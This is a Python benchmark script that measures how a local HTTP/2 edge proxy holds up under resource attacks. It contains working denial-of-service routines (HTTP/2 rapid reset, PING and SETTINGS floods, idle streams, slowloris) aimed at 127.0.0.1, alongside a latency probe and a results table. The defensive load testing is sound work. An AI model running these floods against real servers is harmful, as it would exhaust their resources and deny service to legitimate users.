"""Resource attacks against `meshctl edge`, measured: what each costs the edge (CPU, RSS)
and a normal client's latency while it runs.

    .venv/bin/python -m bench.attacks [--seconds 20] [--only rapid-reset,ping-flood,...]

The edge runs alone on core 1 in front of an nginx backend; each attack runs in its own
process on core 0, beside a probe client that sends one HTTP/1.1 request every 20 ms on a
keep-alive connection (and reconnects if the edge closed it) and records each latency.
Every attack targets 127.0.0.1 only and stops by itself after --seconds.

- rapid-reset: HEADERS + RST_STREAM pairs, 100 per write, on one connection after another
  (each ends with the edge's GOAWAY);
- ping-flood / settings-flood: one connection sending PING or SETTINGS frames as fast as
  the socket takes them, never reading the ACKs;
- idle-streams: 5 connections x 100 POST streams that declare a body and never send it;
- slowloris: 500 connections each sending a request head one byte per second.
"""

from __future__ import annotations

import argparse
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from bench.run import PORTS, _configs, _proc_stat, _taskset, _wait_port, _weft_config, require

ATTACKS = ("rapid-reset", "ping-flood", "settings-flood", "idle-streams", "slowloris")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
PING = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + b"12345678"
# HPACK literal fields without indexing: GET /api/x, authority h
_FIELDS = ((b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"h"),
           (b":path", b"/api/x"))  # fmt: skip
_BLOCK = b"".join(b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in _FIELDS)
_LENGTH_FIELD = b"\x00\x0econtent-length\x0210"


def _frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + sid.to_bytes(4, "big") + payload


def _h2_connection(port: int) -> socket.socket:
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(PREFACE + SETTINGS)
    return s


def attack(name: str, port: int, seconds: float) -> None:
    """The attacker process: run `name` against 127.0.0.1:`port` for `seconds`."""
    end = time.monotonic() + seconds
    held: list[socket.socket] = []
    if name == "rapid-reset":
        streams = goaways = 0
        while time.monotonic() < end:
            s = _h2_connection(port)
            s.settimeout(1.0)
            sid = 1
            try:
                while time.monotonic() < end:
                    batch = bytearray()
                    for _ in range(100):
                        batch += _frame(1, 0x5, sid, _BLOCK)  # END_STREAM | END_HEADERS
                        batch += _frame(3, 0, sid, (8).to_bytes(4, "big"))  # CANCEL
                        sid += 2
                    s.sendall(batch)
                    streams += 100
            except OSError:
                goaways += 1
            s.close()
        print(f"streams_written={streams} connections_closed={goaways}")
    elif name in ("ping-flood", "settings-flood"):
        s = _h2_connection(port)
        s.settimeout(max(0.1, end - time.monotonic()))
        frames = (PING if name == "ping-flood" else SETTINGS) * 4096
        sent = 0
        try:
            while time.monotonic() < end:
                sent += s.send(frames)
        except OSError:
            pass
        print(f"sent_mb={sent / 1e6:.1f}")
    elif name == "idle-streams":
        for _ in range(5):
            s = _h2_connection(port)
            block = _BLOCK + _LENGTH_FIELD
            s.sendall(b"".join(_frame(1, 0x4, 1 + 2 * i, block) for i in range(100)))
            held.append(s)
        time.sleep(max(0.0, end - time.monotonic()))
        print("streams=500")
    elif name == "slowloris":
        head = b"GET /api/x HTTP/1.1\r\nHost: h\r\nX-Pad: " + b"a" * 100 + b"\r\n\r\n"
        for _ in range(500):
            try:
                held.append(socket.create_connection(("127.0.0.1", port)))
            except OSError:
                break
        i = 0
        closed = 0
        while time.monotonic() < end and i < len(head):
            for s in held:
                try:
                    s.send(head[i : i + 1])
                except OSError:
                    closed += 1
            i += 1
            time.sleep(1.0)
        print(f"connections={len(held)} send_failures={closed}")
    for s in held:
        s.close()


def probe(port: int, seconds: float) -> tuple[list[float], int]:
    """One request every 20 ms for `seconds`: latencies (s) and failed requests."""
    latencies: list[float] = []
    failures = 0
    conn: socket.socket | None = None
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            if conn is None:
                conn = socket.create_connection(("127.0.0.1", port), timeout=5)
            conn.sendall(b"GET /api/x HTTP/1.1\r\nHost: h\r\n\r\n")
            got = b""
            while not (b"\r\n\r\n" in got and got.endswith(b"x" * 10)):
                chunk = conn.recv(65536)
                if not chunk:
                    raise ConnectionError("closed")
                got += chunk
            if not got.startswith(b"HTTP/1.1 200 "):
                failures += 1
            latencies.append(time.monotonic() - t0)
        except OSError:
            failures += 1
            if conn is not None:
                conn.close()
            conn = None
        time.sleep(max(0.0, 0.02 - (time.monotonic() - t0)))
    if conn is not None:
        conn.close()
    return latencies, failures


def _pct(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    values = sorted(values)
    return values[min(len(values) - 1, int(q * len(values)))] * 1000


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seconds", type=float, default=20.0)
    ap.add_argument("--only", default=",".join(ATTACKS))
    ap.add_argument("--attacker", choices=ATTACKS, help=argparse.SUPPRESS)
    ap.add_argument("--port", type=int, help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.attacker:
        attack(args.attacker, args.port, args.seconds)
        return
    require("nginx")
    port = PORTS["weft"]
    with tempfile.TemporaryDirectory() as tmp_name:
        tmp = Path(tmp_name)
        configs = _configs(tmp)
        _weft_config(tmp / "weft.yaml", routes=1)
        backend = subprocess.Popen(_taskset("0", configs["backend"]), stderr=subprocess.DEVNULL)
        _wait_port(PORTS["backend"])
        rows = []
        try:
            for name in args.only.split(","):
                edge = subprocess.Popen(
                    _taskset("1", [sys.executable, "-m", "mesh_ctl", "edge", "-f",
                                   str(tmp / "weft.yaml"), "--admin-port", "0",
                                   "--access-log", "off"]),
                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                )  # fmt: skip
                try:
                    _wait_port(port)
                    calm, _ = probe(port, 3.0)
                    cpu0, rss0 = _proc_stat(edge.pid)
                    attacker = subprocess.Popen(
                        _taskset("0", [sys.executable, "-m", "bench.attacks", "--attacker",
                                       name, "--port", str(port), "--seconds",
                                       str(args.seconds)]),
                        stdout=subprocess.PIPE, text=True,
                    )  # fmt: skip
                    t0 = time.monotonic()
                    lat, failures = probe(port, args.seconds)
                    cpu1, rss1 = _proc_stat(edge.pid)
                    out, _ = attacker.communicate(timeout=args.seconds + 30)
                    cpu_pct = 100 * (cpu1 - cpu0) / (time.monotonic() - t0)
                    rows.append((name, cpu_pct, rss0, rss1, _pct(calm, 0.5), _pct(lat, 0.5),
                                 _pct(lat, 0.99), failures, len(lat), out.strip()))  # fmt: skip
                finally:
                    edge.terminate()
                    edge.wait(10)
        finally:
            backend.terminate()
            backend.wait(10)
    print(f"\nResource attacks on meshctl edge ({args.seconds:.0f} s each; probe: 1 request "
          "every 20 ms)\n")  # fmt: skip
    print("| attack | edge CPU | edge RSS MB (start → end) | probe p50 before | probe p50 "
          "| probe p99 | probe failed / sent | attacker |")  # fmt: skip
    print("|---|---|---|---|---|---|---|---|")
    for name, cpu, r0, r1, base, p50, p99, failed, n, out in rows:
        print(f"| {name} | {cpu:.0f}% | {r0:.0f} → {r1:.0f} | {base:.1f} ms | {p50:.1f} ms "
              f"| {p99:.1f} ms | {failed} / {n + failed} | {out} |")  # fmt: skip
    if rows:
        print(f"\nmedian probe p50 under attack: {statistics.median(r[5] for r in rows):.1f} ms")


if __name__ == "__main__":
    main()
